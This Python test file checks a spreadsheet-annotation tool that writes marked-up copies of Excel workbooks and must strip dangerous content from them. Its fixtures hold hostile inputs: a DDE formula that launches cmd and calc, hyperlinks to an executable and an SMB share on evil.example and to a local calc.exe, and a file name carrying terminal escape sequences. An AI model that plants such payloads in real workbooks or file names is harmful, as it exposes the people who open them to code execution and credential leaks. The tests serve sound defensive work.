"""``check --annotate``: highlighted copies with notes and a 问题清单 sheet; originals untouched."""

from __future__ import annotations

import hashlib
import shutil
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from perfxl.cli import main
from perfxl.errors import OutputError
from perfxl.read.limits import Limits
from perfxl.review.checking import check
from perfxl.write.annotate import annotate
from tests.fixtures.raw_xlsx import external_link, write_raw_xlsx

from .conftest import ROOT, SEED, staff_formulas

INBOX = ROOT / "workbooks" / "inbox"


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_annotated_copies_mark_every_problem(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    shutil.copytree(INBOX, inbox)
    before = _digest(inbox)
    out = tmp_path / "批注"
    result = CliRunner().invoke(main, ["check", str(inbox), "--annotate", str(out)])
    assert result.exit_code == 1, result.output
    assert _digest(inbox) == before  # originals untouched, nothing added to the inbox
    copies = sorted(out.glob("*.xlsx"))
    assert len(copies) == 6 and not list(out.glob(".~perfxl-*"))
    problems = check([inbox]).problems
    for problem in problems:
        copy = out / f"{Path(problem.file or '').stem}_批注.xlsx"
        wb = load_workbook(copy)
        cell = wb[problem.sheet or ""][problem.cell or ""]
        assert cell.comment is not None and problem.message in cell.comment.text
        assert cell.fill.fgColor.rgb.endswith(("FFC7CE", "FFEB9C"))
        listing = wb["问题清单"]
        assert any(row[5] == problem.message for row in listing.iter_rows(values_only=True))


def test_a_copy_is_named_without_what_a_terminal_acts_on(tmp_path: Path) -> None:
    odd = tmp_path / "\x1b]0;pwned\x07表\x1b[2J.xlsx"
    shutil.copy(SEED, odd)
    written = annotate(check([odd]), tmp_path / "批注").written
    assert [Path(p).name for p in written] == ["_]0;pwned_表_[2J_批注.xlsx"]


def test_xls_is_annotated_into_xlsx(tmp_path: Path) -> None:
    xls = next(INBOX.rglob("*.xls"))
    result = check([xls])
    [copy] = annotate(result, tmp_path)
    assert copy.suffix == ".xlsx"
    wb = load_workbook(copy)
    assert wb.sheetnames[0] == "问题清单" and "Sheet1" in wb.sheetnames
    assert wb["Sheet1"].merged_cells.ranges


# ---------------------------------------------------------------------------- hostile files

HEAD = '<c r="A1" t="inlineStr"><is><t>项目名称</t></is></c>'
STYLES = ('<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/'
          'spreadsheetml/2006/main"><fonts count="1"><font/></fonts><fills count="1"><fill/></fills>'
          '<borders count="1"><border/></borders><cellXfs count="1"><xf/></cellXfs></styleSheet>')
# case: (B1 as stored, keyword arguments, the staff sheet's name in the copy, B1 there)
ODD: dict[str, tuple[str, dict[str, Any], str, Any]] = {
    "style-index-out-of-range": ('<c r="B1" s="999"><v>7</v></c>', {"styles": STYLES}, "Sheet1", 7),
    "text-in-a-number-cell": ('<c r="B1"><v>abc</v></c>', {}, "Sheet1", "abc"),
    "invalid-date-cell": ('<c r="B1" t="d"><v>不是日期</v></c>', {}, "Sheet1", "不是日期"),
    "slash-in-sheet-name": ('<c r="B1"><v>1</v></c>', {"sheet_name": "收入/支出"}, "收入_支出", 1),
    "brackets-in-sheet-name": ('<c r="B1"><v>2</v></c>', {"sheet_name": "表[1]"}, "表_1_", 2),
    "strict-ooxml": ('<c r="B1"><v>5</v></c>', {"strict": True}, "Sheet1", 5),
    "upper-case-member": ('<c r="B1"><v>6</v></c>', {"member": "xl/WORKSHEETS/SHEET1.XML"}, "Sheet1", 6),
}


@pytest.mark.parametrize("case", list(ODD))
def test_an_odd_xlsx_is_copied_with_its_staff_sheet(case: str, tmp_path: Path) -> None:
    cell, kwargs, name, value = ODD[case]
    src = write_raw_xlsx(tmp_path / f"{case}.xlsx", HEAD + cell, **kwargs)
    done = annotate(check([src]), tmp_path / "out")
    [copy] = done
    wb = load_workbook(copy)
    assert wb.sheetnames == ["问题清单", name]
    assert (wb[name]["A1"].value, wb[name]["B1"].value) == ("项目名称", value)
    assert "annotate-copy-rebuilt" in {p.code for p in done.problems}
    listed = {row[4] for row in wb["问题清单"].iter_rows(min_row=2, values_only=True)}
    assert "annotate-copy-rebuilt" in listed


def test_a_renamed_sheet_keeps_its_notes_and_links(tmp_path: Path) -> None:
    src = write_raw_xlsx(tmp_path / "名.xlsx", HEAD + '<c r="B1"><v>NaN</v></c>', sheet_name="收入/支出")
    done = annotate(check([src]), tmp_path / "out")
    wb = load_workbook(done[0])
    assert wb["收入_支出"]["B1"].comment is not None
    renamed = [p for p in done.problems if p.code == "annotate-sheet-renamed"]
    assert len(renamed) == 1 and "收入/支出" in renamed[0].message and "收入_支出" in renamed[0].message
    links = [c.hyperlink.location for row in wb["问题清单"].iter_rows(min_row=2) for c in row if c.hyperlink]
    assert "'收入_支出'!B1" in links


def test_a_pasted_line_break_in_an_xls_is_kept(tmp_path: Path) -> None:
    import xlwt

    src = tmp_path / "换行.xls"
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("Sheet1")
    ws.write(0, 0, "项目名称")
    ws.write(0, 1, "第一行\x0b第二行\x01")
    book.save(str(src))
    [copy] = annotate(check([src]), tmp_path / "out")
    assert load_workbook(copy)["Sheet1"]["B1"].value == "第一行\n第二行"


def test_a_not_a_number_value_is_shown_as_an_error_and_reported(tmp_path: Path) -> None:
    src = write_raw_xlsx(tmp_path / "nan.xlsx", HEAD + '<c r="B1"><v>NaN</v></c><c r="C1"><v>INF</v></c>')
    done = annotate(check([src]), tmp_path / "out")
    ws = load_workbook(done[0])["Sheet1"]
    assert (ws["B1"].value, ws["C1"].value) == ("#NUM!", "#NUM!")
    assert {(p.code, p.cell) for p in done.problems} >= {("annotate-value-replaced", "B1"),
                                                         ("annotate-value-replaced", "C1")}


def test_a_file_too_large_to_copy_is_refused_before_openpyxl_and_the_rest_are_copied(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import perfxl.write.annotate as module

    monkeypatch.setattr("perfxl.read.workers._in_worker", True)  # the patch below reaches no worker
    box = tmp_path / "inbox"
    box.mkdir()
    write_raw_xlsx(box / "远.xlsx", HEAD + '<c r="B1"><v>1</v></c>'
                   + '</row><row r="100000"><c r="AB100000"><v>1</v></c>')
    write_raw_xlsx(box / "好.xlsx", HEAD + '<c r="B1"><v>1</v></c>')
    loaded: list[Any] = []
    real = module.load_workbook  # type: ignore[attr-defined]

    def counted(*args: Any, **kwargs: Any) -> Any:
        loaded.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(module, "load_workbook", counted)
    limits = Limits(cells=100_000)
    done = annotate(check([box], limits=limits), tmp_path / "out", limits=limits)
    assert [p.name for p in done] == ["好_批注.xlsx"] and len(loaded) == 1
    [refused] = [p for p in done.problems if p.code == "annotate-copy-refused"]
    assert refused.file == str(box / "远.xlsx") and "--limit cells" in refused.message


@pytest.mark.parametrize("ref", ["$XFD$1048576", "&#88;FD&#49;048576"], ids=["absolute", "entities"])
def test_a_sheet_perfxl_could_not_read_is_never_copied_empty_nor_as_is(tmp_path: Path, ref: str) -> None:
    """openpyxl reads the entity-encoded far cell (a copy as is would carry it); the absolute one
    it cannot open (a rebuilt copy would hold an empty sheet): neither is copied, both say why."""
    src = write_raw_xlsx(tmp_path / "远.xlsx", HEAD + f'<c r="{ref}"><v>1</v></c>')
    done = annotate(check([src]), tmp_path / "out")
    assert list(done) == [] and not list((tmp_path / "out").glob("*.xlsx"))
    [refused] = [p for p in done.problems if p.code == "annotate-copy-refused"]
    assert refused.file == str(src) and "单元格引用无效" in refused.message
    said = CliRunner().invoke(main, ["check", str(src), "--annotate", str(tmp_path / "out")])
    assert "没有为这个文件写出批注副本" in said.output and "已写出批注副本" not in said.output


def test_a_merge_down_a_whole_column_is_refused_at_once(tmp_path: Path) -> None:
    src = write_raw_xlsx(tmp_path / "长合并.xlsx", HEAD + '<c r="B1"><v>1</v></c>',
                         sheet_tail='<mergeCells count="1"><mergeCell ref="L1:L1048576"/></mergeCells>')
    start = time.perf_counter()
    done = annotate(check([src]), tmp_path / "out")
    assert time.perf_counter() - start < 20 and list(done) == []  # it took the whole 60 s deadline
    [refused] = [p for p in done.problems if p.code == "annotate-copy-refused"]
    assert "合并单元格合计约 1,048,576 个" in refused.message


def test_annotate_on_a_full_disk_is_an_output_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    def full(self: Any, filename: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("perfxl.read.workers._in_worker", True)  # the patch below reaches no worker
    monkeypatch.setattr(openpyxl.Workbook, "save", full)
    out = tmp_path / "out"
    with pytest.raises(OutputError, match="磁盘空间已满"):
        annotate(check([SEED]), out)
    assert list(out.iterdir()) == []


# ---------------------------------------------------------------------------- nothing live

DANGER = HEAD + "".join([
    '<c r="B1"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>',
    '<c r="B2"><f>[1]Sheet1!A1</f><v>42</v></c>',
    '<c r="B3" t="str"><f>HYPERLINK("file://\\\\evil.example\\share\\x.exe","点我")</f><v>点我</v></c>',
    '<c r="B4"><f>SUM(1,2)</f><v>3</v></c>',
    '<c r="B5" t="inlineStr"><is><t>共享文件夹</t></is></c>',
    '<c r="B6" t="inlineStr"><is><t>本地文件</t></is></c>',
    '<c r="B7" t="inlineStr"><is><t>网站</t></is></c>',
    '<c r="B8" t="inlineStr"><is><t>本表</t></is></c>',
    '<c r="B9" t="str"><f>\'[1]Sheet 1\'!A1&amp;"[2]x!"</f><v>42</v></c>',
])
DANGER_LINKS = ('<hyperlinks><hyperlink ref="B5" r:id="rIdH1"/><hyperlink ref="B6" r:id="rIdH2"/>'
                '<hyperlink ref="B7" r:id="rIdH3"/><hyperlink ref="B8" location="Sheet1!A1"/></hyperlinks>')
DANGER_RELS = [("rIdH1", "hyperlink", "!\\\\evil.example\\share"),
               ("rIdH2", "hyperlink", "!file:///C:/Windows/System32/calc.exe"),
               ("rIdH3", "hyperlink", "!https://www.example.gov.cn/")]


def test_copies_carry_no_dde_external_links_or_file_share_links(tmp_path: Path) -> None:
    src = write_raw_xlsx(tmp_path / "危险.xlsx", DANGER, sheet_tail=DANGER_LINKS, sheet_rels=DANGER_RELS,
                         external=external_link())
    assert load_workbook(src)._external_links  # type: ignore[attr-defined]  # openpyxl keeps them, unless told otherwise
    done = annotate(check([src]), tmp_path / "out")
    [copy] = done
    with zipfile.ZipFile(copy) as zf:
        names = zf.namelist()
        rels = b"".join(zf.read(n) for n in names if n.endswith(".rels"))
        book = zf.read("xl/workbook.xml")
    assert not [n for n in names if "externalLink" in n] and b"externalReference" not in book
    assert b"evil.example" not in rels and b"file:" not in rels and b"https://www.example.gov.cn/" in rels
    ws = load_workbook(copy)["Sheet1"]
    assert [ws[f"B{i}"].value for i in (1, 2, 3, 4, 9)] == [0, 42, "点我", "=SUM(1,2)", "42"]
    assert ws["B5"].hyperlink is None and ws["B6"].hyperlink is None
    assert ws["B7"].hyperlink.target == "https://www.example.gov.cn/" and ws["B8"].hyperlink.location == "Sheet1!A1"
    assert [ws["B5"].value, ws["B6"].value] == ["共享文件夹", "本地文件"]
    found = {(p.code, p.sheet, p.cell) for p in done.problems}
    assert found >= {("annotate-formula-removed", "Sheet1", f"B{i}") for i in (1, 2, 3, 9)}
    assert found >= {("annotate-link-removed", "Sheet1", "B5"), ("annotate-link-removed", "Sheet1", "B6"),
                     ("annotate-link-removed", None, None)}
    assert not {c for code, _, c in found if code.startswith("annotate-")} & {"B4", "B7", "B8"}
    external = next(p for p in done.problems if p.code == "annotate-link-removed" and p.cell is None)
    assert "evil.example" in external.message
    listed = [(row[2], row[4]) for row in load_workbook(copy)["问题清单"].iter_rows(min_row=2, values_only=True)]
    assert ("B1", "annotate-formula-removed") in listed and ("B5", "annotate-link-removed") in listed


def test_a_copy_openpyxl_cannot_write_is_rebuilt_and_check_prints_the_findings(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    real = openpyxl.Workbook.save
    calls: list[int] = []

    def first_fails(self: Any, filename: Any) -> None:
        calls.append(1)
        if len(calls) == 1:
            raise ValueError("something openpyxl loaded but cannot write")
        real(self, filename)

    monkeypatch.setattr("perfxl.read.workers._in_worker", True)  # the patch below reaches no worker
    monkeypatch.setattr(openpyxl.Workbook, "save", first_fails)
    box = tmp_path / "box"
    box.mkdir()
    src = write_raw_xlsx(box / "危险.xlsx", DANGER, sheet_tail=DANGER_LINKS, sheet_rels=DANGER_RELS,
                         external=external_link())
    result = CliRunner().invoke(main, ["check", str(src), "--annotate", str(tmp_path / "out")])
    assert result.exit_code in (0, 1), result.output
    copy = tmp_path / "out" / "危险_批注.xlsx"
    assert f"已写出批注副本：{copy}" in result.output and "annotate-copy-rebuilt" in result.output
    ws = load_workbook(copy)["Sheet1"]
    assert [ws[f"B{i}"].value for i in (1, 2, 3, 4)] == [0, 42, "点我", 3]  # values only
    assert all(c.hyperlink is None for row in ws.iter_rows() for c in row)
    assert staff_formulas(copy) == []
